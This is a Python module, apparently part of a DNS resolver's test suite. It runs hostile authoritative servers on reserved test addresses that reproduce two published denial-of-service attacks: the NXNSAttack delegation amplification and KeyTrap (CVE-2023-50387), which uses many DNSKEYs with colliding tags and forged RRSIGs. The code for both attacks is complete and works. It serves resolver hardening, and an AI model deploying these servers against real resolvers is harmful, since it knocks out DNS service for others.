"""Authorities of attackers: zones whose answers cost a resolver as much as they can.

NXNS (Afek, Bremler-Barr, Shafir: NXNSAttack, 2020): each name is delegated to many servers whose addresses must
be asked of a victim. KeyTrap (Heftrig, Schulmann, Vogel, Waidner, 2024; CVE-2023-50387): many keys of one tag
and many signatures of it, so that each is tried with each.
"""
import collections
import datetime
import functools
import random
import secrets
import socket
import struct
import threading

import dns.dnssec
import dns.flags
import dns.message
import dns.name
import dns.rdata
import dns.rdataclass
import dns.rdatatype
import dns.rrset
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec, padding, rsa

from network import framed, read_framed

ATTACKER, VICTIM = "198.18.0.3", "198.18.0.4"
NXNS, NXNS_VICTIM, KEYTRAP = "nxns.example", "victim.example", "keytrap.example"
SERVERS, KEYS, SIGNATURES = 120, 60, 60
SIZE = 256  # of a key and a signature
IN = dns.rdataclass.IN


class Hostile:
    """Answers at an address of the gate's namespace, over UDP and TCP, by `answer(message)`; counts."""

    def __init__(self, network, address, answer):
        self.network, self.address, self.answer = network, address, answer
        self.asked = collections.Counter()  # by type

    def __enter__(self):
        self.udp = self.network.gate.socket(socket.SOCK_DGRAM, self.address, 53)
        with self.network.gate.entered():
            self.tcp = socket.create_server((self.address, 53), backlog=64)
        self.stopping = False
        self.threads = [threading.Thread(target=work) for work in (self._serve_udp, self._serve_tcp)]
        for thread in self.threads:
            thread.start()
        return self

    def __exit__(self, *_):
        self.stopping = True
        for thread in self.threads:
            thread.join()
        self.udp.close()
        self.tcp.close()

    def _respond(self, wire, size_max):
        query = dns.message.from_wire(wire)
        self.asked[dns.rdatatype.to_text(query.question[0].rdtype)] += 1
        response = self.answer(query)
        response.use_edns(0, 0, 1232)
        packet = response.to_wire(max_size=65535)
        if len(packet) > size_max:
            short = dns.message.make_response(query)
            short.flags |= dns.flags.AA | dns.flags.TC
            packet = short.to_wire()
        return packet

    def _serve_udp(self):
        self.udp.settimeout(0.1)
        while not self.stopping:
            try:
                wire, peer = self.udp.recvfrom(65536)
            except TimeoutError:
                continue
            self.udp.sendto(self._respond(wire, 1232), peer)

    def _serve_tcp(self):
        self.tcp.settimeout(0.1)
        while not self.stopping:
            try:
                s, _ = self.tcp.accept()
            except TimeoutError:
                continue
            with s:
                s.settimeout(5)
                try:
                    s.sendall(framed(self._respond(read_framed(s), 65535)))
                except (OSError, EOFError):
                    pass


def authoritative(query, *sets):
    response = dns.message.make_response(query)
    response.flags |= dns.flags.AA
    response.answer.extend(sets)
    return response


def nothing(query, zone):
    response = authoritative(query)
    response.authority.append(dns.rrset.from_text(zone + ".", 60, IN, "SOA", f"ns.{zone}. a.{zone}. 1 60 60 60 60"))
    return response


def nxns(query):
    """Every name below the zone is a zone of its own, on servers that only the victim knows."""
    name = query.question[0].name
    if len(name.labels) <= len(dns.name.from_text(NXNS).labels):
        return nothing(query, NXNS)
    response = dns.message.make_response(query)
    servers = [f"s{i}-{secrets.token_hex(4)}.{NXNS_VICTIM}." for i in range(SERVERS)]
    response.authority.append(dns.rrset.from_text(name, 3600, IN, "NS", *servers))
    return response


def victim(query):
    return nothing(query, NXNS_VICTIM)


def dnskey(modulus, exponent=65537):
    size = modulus.to_bytes(modulus.bit_length() // 8 + (modulus.bit_length() % 8 > 0), "big")
    numbers = exponent.to_bytes(3, "big")
    wire = struct.pack("!HBB", 256, 3, 8) + bytes([len(numbers)]) + numbers + size
    return dns.rdata.from_wire(IN, dns.rdatatype.DNSKEY, wire, 0, len(wire))


class KeyTrap:
    """A zone with one good key, and many of another tag that is the same for all of them."""

    def __init__(self):
        self.zone = dns.name.from_text(KEYTRAP)
        self.private = ec.generate_private_key(ec.SECP256R1())
        point = self.private.public_key().public_numbers()
        wire = struct.pack("!HBB", 257, 3, 13) + point.x.to_bytes(32, "big") + point.y.to_bytes(32, "big")
        self.key = dns.rdata.from_wire(IN, dns.rdatatype.DNSKEY, wire, 0, len(wire))
        self.ds = dns.dnssec.make_ds(self.zone, self.key, "SHA256").to_text()
        self.decoys = self._decoys()
        self.tag = dns.dnssec.key_id(self.decoys[0])
        keys = dns.rrset.from_rdata_list(self.zone, 300, [self.key, *self.decoys])
        self.keys = [keys, self._signed(keys)]

    @staticmethod
    def _decoys():
        """A tag is a sum of words, so keys whose words are in another order have the same."""
        shuffle = random.Random(1)
        words = [secrets.token_bytes(2) for _ in range(SIZE // 2 - 2)]
        made = []
        for _ in range(KEYS):
            shuffle.shuffle(words)
            made.append(dnskey(int.from_bytes(b"\xc1\x01" + b"".join(words) + b"\x35\x57", "big")))
        assert len({dns.dnssec.key_id(key) for key in made}) == 1
        return made

    @staticmethod
    def _times():
        now = datetime.datetime.now(datetime.timezone.utc)
        return (now - datetime.timedelta(hours=1)).timestamp(), (now + datetime.timedelta(days=1)).timestamp()

    def _signed(self, rrset):
        return dns.rrset.from_rdata(rrset.name, rrset.ttl, dns.dnssec.sign(
            rrset, self.private, self.zone, self.key, inception=self._times()[0], expiration=self._times()[1]))

    def _forged(self, rrset):
        begin, end = map(int, self._times())
        head = struct.pack("!HBBIIIH", rrset.rdtype, 8, len(rrset.name.labels) - 1, rrset.ttl, end, begin, self.tag)
        wires = [head + self.zone.to_wire() + b"\x01" + secrets.token_bytes(SIZE - 1) for _ in range(SIGNATURES)]
        return dns.rrset.from_rdata_list(
            rrset.name, rrset.ttl, [dns.rdata.from_wire(IN, dns.rdatatype.RRSIG, w, 0, len(w)) for w in wires])

    def answer(self, query):
        name, kind = query.question[0].name, query.question[0].rdtype
        if kind == dns.rdatatype.DNSKEY and name == self.zone:
            return authoritative(query, *self.keys)
        if kind != dns.rdatatype.A:
            return nothing(query, KEYTRAP)
        address = dns.rrset.from_text(name, 300, IN, "A", "192.0.2.99")
        return authoritative(query, address, self._forged(address))

    def verify_all(self):
        """What a resolver without limits does for one answer."""
        for key in self.decoys:
            numbers = rsa.RSAPublicNumbers(65537, int.from_bytes(key.key[4:], "big"))
            public = numbers.public_key()
            for _ in range(SIGNATURES):
                try:
                    public.verify(b"\x01" + secrets.token_bytes(SIZE - 1), b"", padding.PKCS1v15(), hashes.SHA256())
                except Exception:  # which is the point: none of them is good
                    continue


@functools.cache
def keytrap():
    return KeyTrap()


def cuts():
    """Delegations for the root zone of the tests."""
    return (f"{NXNS}. NS ns.{NXNS}.\nns.{NXNS}. A {ATTACKER}\n"
            f"{NXNS_VICTIM}. NS ns.{NXNS_VICTIM}.\nns.{NXNS_VICTIM}. A {VICTIM}\n"
            f"{KEYTRAP}. NS ns.{KEYTRAP}.\nns.{KEYTRAP}. A {ATTACKER}\n{KEYTRAP}. DS {keytrap().ds}\n")
